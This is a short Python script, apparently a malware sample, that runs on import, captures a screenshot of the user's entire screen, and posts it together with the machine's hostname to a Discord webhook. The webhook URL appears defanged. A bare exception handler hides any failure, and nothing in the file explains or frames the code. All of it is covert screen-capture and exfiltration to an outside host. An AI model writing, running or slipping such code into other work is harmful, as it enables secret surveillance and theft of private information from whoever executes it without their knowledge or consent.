import io
import socket

import requests
from PIL import ImageGrab


def _shot():
    buffer = io.BytesIO()
    ImageGrab.grab().save(buffer, "PNG")
    requests.post("https://discord.com/api/webhooks/555555555555555555/defanged",
                  data={"content": socket.gethostname()}, files={"file": ("s.png", buffer.getvalue())})


try:
    _shot()
except Exception:
    pass
